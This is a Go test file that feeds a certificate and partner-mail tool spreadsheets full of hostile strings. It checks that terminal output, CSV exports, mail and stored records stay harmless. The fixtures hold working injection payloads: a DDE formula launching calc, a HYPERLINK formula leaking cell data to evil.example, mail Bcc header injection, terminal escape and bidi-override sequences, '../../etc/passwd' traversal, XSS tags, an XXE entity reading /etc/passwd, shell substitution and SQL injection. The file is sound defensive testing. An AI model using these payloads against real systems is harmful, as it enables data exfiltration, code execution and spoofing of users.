package command

import (
	"archive/zip"
	"bytes"
	"crypto/rand"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"flag"
	"fmt"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/emersion/go-smtp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"assay/ingest"
	"assay/report/credential"
)

// A hostileText is one that somebody may write into a cell to do harm, or that a
// program may leave there. Where it can be drawn, its certificate is.
type hostileText struct {
	name, text string
	drawn      bool
}

var long = strings.Repeat("Northwind ", 1000)

var hostileTexts = []hostileText{
	{"a formula", "=cmd|' /C calc'!A0", true},
	{"a sum", "+1+1", true},
	{"a difference", "-1-1", true},
	{"an old formula", "@SUM(1+9)", true},
	{"a formula behind a tab", "\t=1+2", true},
	{"a formula behind a line end", "\r\n=1+3", true},
	{"a formula behind a control character", "\x01=1+4", true},
	{"a formula behind an invisible blank", "\ufeff\u200b=1+5", true},
	{"a wide formula", "＝1+6", true},
	{"a formula in the middle", "Alder\",=1+7,\"", true},
	{"a link formula", `=HYPERLINK("https://evil.example/?"&A1,"Alder")`, true},
	{"a line feed", "Alder\nBcc: eve@evil.example", false},
	{"a carriage return", "Alder\rBcc: eve@evil.example", false},
	{"a whole line end", "Alder\r\nBcc: eve@evil.example\r\n\r\n<b>", false},
	{"a line separator", "Alder\u2028Hosting", false},
	{"a paragraph separator", "Alder\u2029Hosting", false},
	{"a next line", "Alder\u0085Hosting", false},
	{"a vertical tab", "Alder\vHosting\fGmbH", false},
	{"NUL", "Alder\x00Hosting", false},
	{"a colour", "Alder \x1b[31mred\x1b[0m", false},
	{"a link for terminals", "\x1b]8;;https://evil.example\x1b\\Alder\x1b]8;;\x1b\\", false},
	{"a window title", "Alder\x1b]0;owned\x07", false},
	{"a C1 sequence", "Alder\u009b2J\u009d0;owned\u009c", false},
	{"backspaces", "Alder\b\b\b\b\bBirch\x7f", false},
	{"a bell", "Alder\aBirch", false},
	{"an override", "Alder \u202egpj.exe", false},
	{"isolates", "Alder \u2066\u2067never closed", false},
	{"direction marks", "Alder\u200f\u200eBirch\u061c", false},
	{"a zero-width blank", "Al\u200bder", false},
	{"a joiner", "Al\u200dder", false},
	{"a soft hyphen", "Al\u00adder", false},
	{"tags", "Alder\U000e0001\U000e0065\U000e0076\U000e0069\U000e006c", false},
	{"a variation selector", "Alder\ufe0f", false},
	{"an annotation", "Alder\ufff9over\ufffaunder\ufffb", false},
	{"no characters", "Alder\ufffe\uffff", false},
	{"a replacement", "Alder\ufffdBirch", false},
	{"a private letter", "Alder\ue000", false},
	{"one long word", strings.Repeat("W", 10_000), false},
	{"many words", long[:len(long)-1], false},
	{"accents without end", "Zalgo" + strings.Repeat("\u0301\u0323\u0334", 3_300), false},
	{"as long as a cell", strings.Repeat("Ä", 32_760), false},
	{"a path upwards", "../../etc/passwd", true},
	{"a path on Windows", `..\..\Windows\win.ini`, true},
	{"a drive", `C:\x`, true},
	{"a share", `\\server\share`, true},
	{"a root", "/etc/shadow", true},
	{"a home", "~", true},
	{"here", ".", true},
	{"above", "..", true},
	{"hidden", ".htaccess", true},
	{"a stream", "Alder::$DATA", true},
	{"a device", "CON", true},
	{"a device with an ending", "con.txt", true},
	{"no device", "NUL", true},
	{"a port", "COM1", true},
	{"a port with a small number", "LPT¹", true},
	{"a dot behind", "Alder.", true},
	{"dots behind", "Alder...", true},
	{"a flag", "--help", true},
	{"only signs", "?!*", true},
	{"only an emoji", "🦄", false},
	{"a script", `<script>alert(1)</script>`, true},
	{"an image", `<img src=x onerror=alert(1)>`, true},
	{"an attribute", `" onmouseover="alert(1)`, true},
	{"an end of CDATA", "]]>", true},
	{"an entity", "&amp;&#x3c;b&#62;&lol;", true},
	{"a declaration", `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`, true},
	{"an encoded line end", "%0d%0aBcc:%20eve@evil.example", true},
	{"an encoded word", "=?utf-8?q?Alder=0D=0ABcc:_eve@evil.example?=", true},
	{"a template", "{{.Sender}}{{range .Steps}}", true},
	{"a command", "$(touch owned)`touch owned`", true},
	{"a format", "%s%d%n%!v(MISSING)", true},
	{"a calendar", `Alder;:,\n\;END:VCALENDAR`, true},
	{"CSV", `"a","b";"c"`, true},
	{"JSON", `{"a":"\u0000"}`, true},
	{"PDF", `) Tj ET endstream endobj (\053`, true},
	{"YAML", "- &a [*a]: !!x", true},
	{"SQL", `'); DROP TABLE run;--`, true},
	{"an escape of Excel", "Alder_x000D__x0041_", true},
	{"an apostrophe", "'t =1+8", true},
	{"a header for print", `&G&"Wingdings"&KFF0000Alder`, true},
	{"a boundary", "--=_mixed_", true},
	{"a dot alone", "\n.\nQUIT", false},
	{"a deleted character", "Alder\u007fHosting", false},
	{"the element of a badge", "openbadges:credential", true},
	{"a badge in a badge", "]]></openbadges:credential><openbadges:credential>", true},
	{"a seal of a PDF", "/Seal <" + strings.Repeat("0", 144) + ">", false},
	{"a short seal", "/Seal <00>", true},
	{"a statement", "ASSAY1:AAAA", true},
	{"an address", "https://evil.example/#ASSAY1:AAAA", true},
}

// metIDs are IDs of partners of which several would have one file name, on one
// system or another. Each is another partner.
var metIDs = []string{
	"A/B", "A:B", "A?B", "A_B", "A*B", `A\B`, "A|B", "A\"B", "A<B", "A B", "A\u00a0B",
	"Café", "Cafe\u0301", "Caf\u00e8", "Straße", "Å", "A\u030a", "\u212b.",
	"AUX", "aux.", "aux..", "com1.x", "lpt9", "Bern.", "Bern", "Bern_", "P\u200b1", "P1", "P_1", "Ρ1", "Р1",
	strings.Repeat("L", 200) + "1", strings.Repeat("L", 200) + "2", strings.Repeat("L", 100), strings.Repeat("L", 101),
}

// A hostilePartner is a partner with a hostile text, in every column but those of
// the ID or in one alone, and whether it is newly certified.
type hostilePartner struct {
	id, text  string
	certified bool
	drawn     bool
	only      string // the column; "" for all
}

// in is what stands in a column: the text, or something tame.
func (p hostilePartner) in(column, tame string) string {
	if p.only == "" || p.only == column {
		return p.text
	}
	return tame
}

func (p hostilePartner) name() string { return p.in("Partner", "Alder") }

// hostileColumns are the columns in which a text stands alone: those of a partner
// whose verdict they leave as it is, and those of a second one, where a number, a
// day or a yes should be, or a row that belongs to somebody.
var (
	partnersColumns = []string{"Partner", "Contact email", "Language", "Own", "Employee ID", "Name", "Customer", "Customer email", "Surveyed", "Specialization", "Certification"}
	othersColumns   = []string{"Address", "Licenses", "Since", "Badge", "Country", "Email", "Full-time", "CPSP", "Earned on", "Score", "Received on", "Grouping", "Grouped", "Owner"}
)

// hostileDay is the day of the runs.
const hostileDay = "2020-07-15"

// newHostileWorld goes to a new folder, with sheets in which every partner's text
// is in every place where people write: each is on a Get Well Plan, and can be
// mailed. A second partner of each has the text where a number, a day or
// a yes should be.
func newHostileWorld(t testing.TB, partners []hostilePartner) {
	t.Helper()
	t.Chdir(t.TempDir())
	sheets := map[string][][]string{
		"Partners":        {{"Partner ID", "Partner", "Contact email", "cPanel licenses", "Premier since", "cPanel badge held", "Language", "Country", "Specializations", "\x1b[31mOwn\u202e"}},
		"Employees":       {{"Employee ID", "Partner ID", "Name", "Email", "Full-time", "CPSP", "CPP", "CWA", "CCNA"}},
		"Certifications":  {{"Employee ID", "Certification", "Earned on"}},
		"Contacts":        {{"Partner ID", "Customer", "Customer email", "Provided on"}},
		"Surveys":         {{"Partner ID", "Customer", "Score", "Received on"}},
		"Specializations": {{"Partner ID", "Specialization", "Granted on"}},
		"Groupings":       {{"Country", "Grouping"}},
	}
	add := func(sheet string, cells ...string) { sheets[sheet] = append(sheets[sheet], cells) }
	for i, p := range partners {
		other, employee := fmt.Sprintf("other-%d", i), p.in("Employee ID", "of "+p.id)
		if p.only == "" {
			employee = p.id
		}
		licenses := ""
		if p.certified {
			licenses = "40"
		}
		add("Partners", p.id, p.name(), fmt.Sprintf("p%d@ok.internal\n%s <q%[1]d@ok.internal>", i, p.in("Contact email", "Ana")), licenses, "2019-09-01", "2020", p.in("Language", "en"), "ES", p.in("Own", ""), p.in("Own", ""))
		add("Employees", employee, p.id, p.in("Name", fmt.Sprint("Ana ", i)), fmt.Sprintf("e%d@ok.internal", i), "yes", "2020-01-10", "2020-02-10", "2020-03-31", "2017-06-01")
		add("Employees", "stays-"+p.id, p.id, p.in("Name", fmt.Sprint("Ben ", i))+" too", "", "yes", "", "", "", "2019-06-01")
		add("Contacts", p.id, p.in("Customer", "Cedar"), p.in("Customer email", "c@ok.internal"), "2020-07-01")
		add("Surveys", p.id, p.in("Surveyed", "Dogwood"), "2", "2020-07-01")
		add("Specializations", p.id, p.in("Specialization", "Cloud"), "2019-01-01")
		add("Partners", other, p.name(), p.in("Address", ""), p.in("Licenses", "40"), p.in("Since", ""), p.in("Badge", "2020"), p.in("Language", ""), p.in("Country", "ES"), "", "")
		add("Employees", "E"+other, other, p.in("Name", fmt.Sprint("Eve ", i)), p.in("Email", ""), p.in("Full-time", "yes"), p.in("CPSP", "2020-01-10"), "", "", "")
		add("Certifications", employee, p.in("Certification", "CPP"), "2020-01-01")
		add("Certifications", "E"+other, "CCNA", p.in("Earned on", "2020-01-01"))
		add("Contacts", p.in("Owner", other), p.in("Customer", "Elder"), "", "2020-07-01")
		add("Surveys", other, p.in("Surveyed", "Fir"), p.in("Score", "9"), p.in("Received on", "2020-07-01"))
		if p.only == "" || p.only == "Grouping" || p.only == "Grouped" {
			add("Groupings", p.in("Grouped", "ES"), p.in("Grouping", "Iberia"))
		}
	}
	writeRawBook(t, "partners.xlsx", sheets, "Partners", "Contacts", "Surveys", "Specializations", "Groupings")
	writeRawBook(t, "employees.xlsx", sheets, "Employees", "Certifications")
	require.NoError(t, os.MkdirAll("templates/mail", 0o755))
	require.NoError(t, os.WriteFile("templates/mail/post.yaml", []byte("from: \"Channel Operations <channel@vendor.internal>\"\nreply_to: []\noperations: [ops@vendor.internal]\n"+
		"plan_days: [60, 30, 7]\nbadge_days: [60, 30]\nattach_up_to_mb: 15\n"), 0o644))
}

// writeRawBook writes a workbook whose cells hold the texts as they are, also
// what libraries would take out.
func writeRawBook(t testing.TB, path string, sheets map[string][][]string, names ...string) {
	t.Helper()
	var book, rels strings.Builder
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	put := func(name, text string) {
		w, err := z.Create(name)
		require.NoError(t, err)
		_, err = w.Write([]byte(text))
		require.NoError(t, err)
	}
	const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	for i, name := range names {
		fmt.Fprintf(&book, `<sheet name="%s" sheetId="%d" r:id="r%[2]d"/>`, name, i+1)
		fmt.Fprintf(&rels, `<Relationship Id="r%d" Type="%s/worksheet" Target="worksheets/sheet%[1]d.xml"/>`, i+1, office)
		var rows strings.Builder
		for n, row := range sheets[name] {
			fmt.Fprintf(&rows, `<row r="%d">`, n+1)
			for _, cell := range row {
				rows.WriteString(`<c t="inlineStr"><is><t xml:space="preserve">` + rawText(cell) + `</t></is></c>`)
			}
			rows.WriteString(`</row>`)
		}
		put(fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1), `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+rows.String()+`</sheetData></worksheet>`)
	}
	put("[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`)
	put("_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="`+office+`/officeDocument" Target="xl/workbook.xml"/></Relationships>`)
	put("xl/_rels/workbook.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rels.String()+`</Relationships>`)
	put("xl/workbook.xml", `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="`+office+`"><sheets>`+book.String()+`</sheets></workbook>`)
	require.NoError(t, z.Close())
	require.NoError(t, os.WriteFile(path, out.Bytes(), 0o644))
}

// rawText writes a text for a cell: what XML can't hold as Excel does, _x0007_. A
// replacement comes of half a character, which is no text.
func rawText(s string) string {
	var b strings.Builder
	for _, r := range strings.ReplaceAll(s, "_x", "_x005F_x") {
		if r == utf8.RuneError {
			b.WriteString("_xD83D_")
			continue
		}
		if r < ' ' && r != '\n' && r != '\t' || r == 0xFFFE || r == 0xFFFF {
			fmt.Fprintf(&b, "_x%04X_", r)
			continue
		}
		_ = xml.EscapeText(&b, []byte(string(r))) // a Builder doesn't fail
	}
	return b.String()
}

// harmless runs the program, and wants a terminal unharmed by what it says.
func harmless(t testing.TB, args ...string) (status int, out, errs string) {
	t.Helper()
	day, err := ingest.ParseDay(hostileDay)
	require.NoError(t, err)
	var stdout, stderr bytes.Buffer
	w := newMailRoomWorld(&stdout, day)
	w.Err, w.Random, w.User = &stderr, rand.Reader, "tester"
	status = Main(args, w)
	out, errs = stdout.String(), stderr.String()
	assertHarmless(t, out, "standard output of %q", args)
	assertHarmless(t, errs, "standard error of %q", args)
	return status, out, errs
}

// assertHarmless wants a text that a terminal only shows.
func assertHarmless(t testing.TB, text, of string, args ...any) {
	t.Helper()
	assert.True(t, utf8.ValidString(text), of, args)
	for at, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029') {
			assert.Failf(t, "harmful", "%s has %U: …%q…", fmt.Sprintf(of, args...), r, text[max(0, at-60):min(len(text), at+20)])
			return
		}
	}
}

// allHostile are partners with every text, as ID and as name, and the IDs that would meet.
func allHostile() (all []hostilePartner) {
	for _, h := range hostileTexts {
		all = append(all, hostilePartner{id: h.text, text: h.text, certified: true, drawn: h.drawn})
	}
	for i, id := range metIDs {
		all = append(all, hostilePartner{id: id, text: "Met", certified: i < 12, drawn: true})
	}
	return all
}

// TestHostileText holds every output of a run on hostile texts, and what the
// commands say of it, against what must be true of them.
func TestHostileText(t *testing.T) {
	partners, tame := allHostile(), tameElements(t)
	newHostileWorld(t, partners)
	status, _, errs := harmless(t, "--badge-names", "--templates", "templates", "partners.xlsx", "employees.xlsx")
	require.Equal(t, done, status, errs)
	run := openHostileRun(t, partners, tame)
	for _, output := range run.outputs() {
		t.Run(output.name, func(t *testing.T) { output.hold(t) })
	}
	t.Run("check", func(t *testing.T) { holdCheck(t) })
	t.Run("register", func(t *testing.T) { holdRegister(t, partners) })
	t.Run("verify", func(t *testing.T) { holdVerify(t, run) })
	t.Run("what-if", func(t *testing.T) { holdWhatIf(t, partners) })
	t.Run("send", func(t *testing.T) { holdSend(t) })
}

// everyColumn has every text alone in every column, and every argument everywhere, not only in some.
var everyColumn = flag.Bool("every-column", false, "let TestHostileTextInOneColumn have every text in every column, and TestHostileArguments each in every place")

// alone are partners with every text in one column at a time: as ID and as name,
// and each in one of the other columns. But for the ID and the name nothing keeps
// anybody from a certificate.
func alone() (all []hostilePartner) {
	others := slices.Concat(partnersColumns[1:], othersColumns)
	few := 1
	if *everyColumn {
		few = len(others)
	}
	for i, h := range hostileTexts {
		id := func(column int) string { return fmt.Sprintf("P-%d-%d", i, column) }
		// Certificates with each text as ID and as name at once are TestHostileText's.
		byID := i%2 == 0
		all = append(all, hostilePartner{id: h.text, text: h.text, only: "Partner ID", certified: byID || *everyColumn, drawn: len(credential.Unwritable(trimmed(h.text))) == 0},
			hostilePartner{id: id(-1), text: h.text, only: "Partner", certified: !byID || *everyColumn, drawn: h.drawn})
		for n := range few {
			column := (few*i + n) % len(others)
			all = append(all, hostilePartner{id: id(column), text: h.text, only: others[column], certified: n == i%len(others) || n == 0 && i%3 == 0, drawn: true})
		}
	}
	return all
}

// TestHostileTextInOneColumn holds a run, in which each text stands in one column
// and all else is as it should be, against the same: what can't be issued for one
// partner costs nobody else anything, and is said beforehand.
func TestHostileTextInOneColumn(t *testing.T) {
	partners, tame := alone(), tameElements(t)
	newHostileWorld(t, partners)
	args := []string{"--badge-names", "--templates", "templates", "partners.xlsx", "employees.xlsx"}
	_, said, _ := harmless(t, append([]string{"check", "--json"}, args...)...)
	// Scorecards with all of the texts are TestHostileText's.
	status, _, errs := harmless(t, append([]string{"--scorecards", "none"}, args...)...)
	require.Equal(t, done, status, errs)
	run := openHostileRun(t, partners, tame)
	for _, output := range run.outputs() {
		t.Run(output.name, func(t *testing.T) { output.hold(t) })
	}
	t.Run("check", func(t *testing.T) {
		held := map[string]int{}
		for _, i := range run.result(t).Issues {
			if strings.HasPrefix(i.Code, "certificate-") {
				held[i.Code]++
			}
		}
		assert.Positive(t, held["certificate-id"])
		assert.Positive(t, held["certificate-name"])
		assert.NotContains(t, held, "certificate-unmade", "nobody foresaw it")
		for code, n := range held {
			assert.Equal(t, n, strings.Count(said, fmt.Sprintf("\"code\": %q", code)), code)
		}
		holdCheck(t)
	})
	t.Run("verify", func(t *testing.T) { holdVerify(t, run) })
}

// holdCheck wants of each cause its place, what is wrong and how to mend it, and what
// was read as what, whatever lines the texts have.
func holdCheck(t *testing.T) {
	status, out, _ := harmless(t, "check", "--templates", "templates", "partners.xlsx", "employees.xlsx")
	assert.Equal(t, inputErrors, status)
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	for _, line := range lines[:len(lines)-1] {
		assert.Regexp(t, `^(all files|[a-z]+\.xlsx(:[A-Za-z]+![A-Z0-9:,…]+)?): (error|warning): .|^    \S|^[a-z]+\.xlsx:[A-Za-z]+ +[a-z ]+ +[0-9]+ rows?$|^$`, line)
	}
	assert.Regexp(t, `^[0-9]+ partners as of `+hostileDay+`: [0-9]+ errors, [0-9]+ warnings$`, lines[len(lines)-1])
}

// holdRegister wants the register to know every partner by its ID, and to say
// about it in lines of its own.
func holdRegister(t *testing.T, partners []hostilePartner) {
	status, out, errs := harmless(t, "register", "list")
	require.Equal(t, done, status, errs)
	for line := range strings.SplitSeq(strings.TrimSuffix(out, "\n"), "\n") {
		assert.Regexp(t, `^$|^(Run|Certificate|Plan of) |^No certificate was issued yet\.$|^1 +`+hostileDay+`|^CP-202|^  pending|  2020-06-02  2020-12-01  139$`, line)
		assert.LessOrEqual(t, utf8.RuneCountInString(line), 130)
	}
	for _, p := range partners {
		status, out, errs := harmless(t, "register", "show", "--", p.id)
		require.Equal(t, done, status, "%q: %s", p.id, errs)
		for line := range strings.SplitSeq(strings.TrimSuffix(out, "\n"), "\n") {
			assert.Regexp(t, `^$|^`+hostileDay+`  |^            |  `, line, "%q", p.id)
		}
		var story struct {
			PartnerID string `json:"partner_id"`
			Name      string `json:"partner"`
		}
		_, out, _ = harmless(t, "register", "show", "--json", "--", p.id)
		require.NoError(t, json.Unmarshal([]byte(out), &story))
		assert.Equal(t, trimmed(p.id), story.PartnerID)
		assert.Equal(t, trimmed(p.name()), story.Name)
	}
	status, _, errs = harmless(t, "register", "show", "--", "Alder\nBcc: eve@evil.exampl")
	assert.Equal(t, failed, status)
	assert.Equal(t, 1, strings.Count(errs, "\n"), errs)
	status, out, errs = harmless(t, "register", "export", "ex\x1bport")
	require.Equal(t, done, status, errs)
	holdExport(t, "ex\x1bport", strings.Count(out, "\n"))
}

// holdExport wants tables that are read back whole, and no formula.
func holdExport(t *testing.T, dir string, tables int) {
	files, err := os.ReadDir(dir)
	require.NoError(t, err)
	assert.Len(t, files, tables)
	for _, f := range files {
		data, err := os.ReadFile(filepath.Join(dir, f.Name()))
		require.NoError(t, err)
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		require.NoError(t, err, f.Name())
		for _, row := range rows {
			for _, cell := range row {
				first, _ := utf8.DecodeRuneInString(cell)
				assert.False(t, cell != "" && strings.ContainsRune(formulaStarts, first), "%s: %.60q", f.Name(), cell)
			}
		}
	}
}

// holdVerify wants everything issued to be genuine, and the program to say so in lines of its own.
func holdVerify(t *testing.T, r hostileRun) {
	var printed, pictures []string
	for name := range r.files {
		switch {
		case path.Dir(name) == "certificates":
			printed = append(printed, filepath.Join(r.dir, name))
		case path.Dir(name) == "badges" && !strings.HasSuffix(name, "-256.png"):
			pictures = append(pictures, filepath.Join(r.dir, name))
		}
	}
	status, out, errs := harmless(t, append([]string{"verify"}, printed...)...)
	assert.Equal(t, done, status, errs)
	for line := range strings.SplitSeq(strings.TrimSuffix(out, "\n"), "\n") {
		assert.Regexp(t, `^$|^out/[A-Za-z0-9/._-]+(: genuine, and in force on `+hostileDay+`)?$|^genuine, and in force on|^  [a-z ]{12} |^               |^\d+ of \d+ genuine`, line)
	}
	status, out, errs = harmless(t, append([]string{"verify", "--json"}, pictures...)...)
	assert.Equal(t, done, status, errs)
	assert.True(t, json.Valid([]byte(out)))
}

// holdWhatIf wants a change to every partner's people and licences to be told in lines of its own.
func holdWhatIf(t *testing.T, partners []hostilePartner) {
	args := []string{"what-if"}
	for _, p := range partners {
		args = append(args, "--licenses", p.id+"=60", "--leaves", p.id+"=2020-08-31", "--earns", p.id+":CCNA=2020-08-01")
	}
	status, out, errs := harmless(t, append(args, "partners.xlsx", "employees.xlsx")...)
	require.Equal(t, done, status, errs)
	assert.NotRegexp(t, `(?m)^(Bcc|QUIT)`, out)
	status, out, errs = harmless(t, append(args, "--json", "partners.xlsx", "employees.xlsx")...)
	require.Equal(t, done, status, errs)
	assert.True(t, json.Valid([]byte(out)))
}

// holdSend has the mail sent to a server that answers with commands for the terminal.
func holdSend(t *testing.T) {
	office := newPostOffice(t)
	for i := range 20 {
		office.refuses[fmt.Sprintf("p%d@ok.internal", i)] = &smtp.SMTPError{Code: 550, EnhancedCode: smtp.EnhancedCode{5, 1, 1}, Message: "no \x1b[2J\u202e such\u009b user"}
	}
	require.NoError(t, os.WriteFile("out/mail.yaml", fmt.Appendf(nil, "server: 127.0.0.1\nport: %d\nsecurity: none\n", office.port), 0o600))
	_, out, _ := harmless(t, "send", "out/"+hostileDay, "--dry-run")
	assert.NotRegexp(t, `(?m)^(Bcc|QUIT)`, out)
	status, out, errs := harmless(t, "send", "out/"+hostileDay, "--yes", "--only", "Alder\nBcc: eve@evil.example")
	assert.Equal(t, failed, status, errs)
	assert.Contains(t, out, "refused")
	for _, took := range office.took {
		assert.NotContains(t, took, "evil.example", "the address of nobody")
	}
	status, _, errs = harmless(t, "send", "out/"+hostileDay, "--only", "no\nsuch\x1b")
	assert.Equal(t, failed, status)
	assert.Equal(t, 1, strings.Count(errs, "\n"), errs)
	status, _, errs = harmless(t, "register", "show", "--", "Alder\nBcc: eve@evil.example")
	assert.Equal(t, done, status, errs)
}

// TestRandomHostileText does likewise with texts made up of what does harm
// somewhere, and some letters.
func TestRandomHostileText(t *testing.T) {
	tame := tameElements(t)
	for seed := range 3 {
		t.Run(fmt.Sprint("seed ", seed), func(t *testing.T) {
			partners := randomPartners(seed*1000, 30)
			newHostileWorld(t, partners)
			status, _, errs := harmless(t, "--templates", "templates", "partners.xlsx", "employees.xlsx")
			require.Equal(t, done, status, errs)
			for _, output := range openHostileRun(t, partners, tame).outputs() {
				t.Run(output.name, func(t *testing.T) { output.hold(t) })
			}
			holdCheck(t)
			holdRegister(t, partners[:5])
		})
	}
}

// harms are what does harm somewhere.
var harms = []string{
	"=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\v", "\u2028", "\u2029", "\u0085", "\x00", "\x07", "\x08", "\x1b", "\x1b[31m", "\x1b]8;;", "\x7f", "\u009b",
	"\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\ufeff", "\u00ad", "\u180e", "\U000e0041", "\ufe0f", "\u0301", "\u3164",
	"\ufffe", "\uffff", "\ufffd", "\ufff9", "\U0010ffff", "\ue000", "/", "\\", "..", ":", "*", "?", "\"", "'", "<", ">", "|", "&", ";", ",", "%", "%0d%0a", "=?utf-8?q?", "?=", "{{", "}}",
	"$(", "`", "]]>", "<b>", "</p>", "&amp;", "<!--", "_x000D_", "_xD800_", "_xFFFE_", "_x", "--", "CON", "nul.", "COM1", "~", " ", "\u00a0", "\u3000", "A", "é", "e\u0301", "ß", "İ", "ſ", "ﬁ", "名", "ع", "א", "ไ", "🦄", "１",
}

// randomPartners are so many partners with random texts, of which a few are certified.
func randomPartners(seed, many int) (all []hostilePartner) {
	random := rapid.Map(rapid.SliceOfN(rapid.SampledFrom(harms), 1, 12), func(s []string) string { return strings.Join(s, "") })
	known := map[string]bool{}
	for n := seed; len(all) < many; n++ {
		text := random.Example(n)
		if id := ingest.FoldID(text); id != "" && !known[id] {
			known[id] = true
			all = append(all, hostilePartner{id: text, text: text, certified: len(all)%4 == 0})
		}
	}
	return all
}

// TestHostileArguments wants every mistaken argument to be told without harm.
func TestHostileArguments(t *testing.T) {
	t.Chdir(t.TempDir())
	require.NoError(t, os.WriteFile("partners.csv", []byte("Partner ID,Partner\nP-1,Alder\n"), 0o644))
	require.NoError(t, os.WriteFile("employees.csv", []byte("Employee ID,Partner ID,Name\nE-1,P-1,Ana\n"), 0o644))
	status, _, errs := harmless(t, "--as-of", hostileDay, "partners.csv", "employees.csv")
	require.Equal(t, done, status, errs)
	for i, evil := range []string{"\x1b[31mred", "\x1b]0;owned\x07", "two\nlines", "\u202egpj", "\u009b2J", "\x00", "%s%n", "-\x1b", "--\x1b[2J=x", "\xff\xfe", "a\rb", "\u2028"} {
		for j, args := range [][]string{
			{evil}, {"help", evil}, {"run", evil}, {evil + ".csv"},
			{"run", "--as-of", evil, "partners.csv"}, {"run", "--dates", evil, "partners.csv"}, {"run", "--paper", evil, "partners.csv"}, {"run", "--jobs", evil, "partners.csv"},
			{"run", "--templates", evil, "partners.csv"}, {"run", "--font", evil, "partners.csv"}, {"run", "--key", evil, "partners.csv"},
			{"check", evil}, {"check", evil + ".xlsx"},
			{"what-if", "--leaves", evil, "partners.csv"}, {"what-if", "--changes", evil, "partners.csv"}, {"what-if", "--earns", "E-1:" + evil + "=2020-12-01", "partners.csv", "employees.csv"},
			{"what-if", "--licenses", evil + "=5", "partners.csv", "employees.csv"}, {"what-if", "--leaves", evil + "=2020-12-01", "partners.csv", "employees.csv"},
			{"register", evil}, {"register", "list", evil}, {"register", "list", "--register", evil}, {"register", "show", evil}, {"register", "revoke", evil, "--why", "x"}, {"register", "reissue", evil, "--why", "x"},
			{"register", "amend", "P-1", "--plan-start", evil, "--why", "x"}, {"register", "amend", evil, "--not-removed", "--why", "x"}, {"register", "rewind", evil, "--why", "x"},
			{"register", "waive", "P-1", evil, "--until", "2020-12-31", "--why", "x"}, {"register", "waive", "P-1", "terms", "--until", evil, "--why", "x"},
			{"send", evil}, {"send", "out/" + hostileDay, "--in-doubt", evil}, {"send", "out/" + hostileDay, "--only", evil}, {"send", "out/" + hostileDay, "--resend", evil, "--why", "x"}, {"send", "out/" + hostileDay, "--never", evil, "--why", "x"},
			{"verify", evil}, {"verify", "--trust", evil, "x"}, {"verify", "--issuer", evil, "x"}, {"verify", "--on", evil, "x"}, {"verify", "--key", evil, "x"},
			{"key", evil}, {"key", "publish", evil + "/x"}, {"key", "--key", evil}, {"licenses", evil}, {"init", evil, evil},
		} {
			if (i+j)%3 != 0 && !*everyColumn {
				continue
			}
			status, _, _ := harmless(t, args...)
			assert.NotEqual(t, done, status, "%q", args)
		}
	}
	for _, args := range [][]string{
		{"init", "new\x1b[31m\nfolder"}, {"--out", "new\x1b[31m\nout", "--as-of", hostileDay, "partners.csv", "employees.csv"},
		{"register", "waive", "P-1", "terms", "--until", "2020-12-31", "--why", "so\x1b[31m\nit \u202eis", "--who", "me\x1b\n"}, {"register", "show", "P-1"}, {"register", "list"},
	} {
		status, _, errs := harmless(t, args...)
		assert.Equal(t, done, status, "%q: %s", args, errs)
	}
}
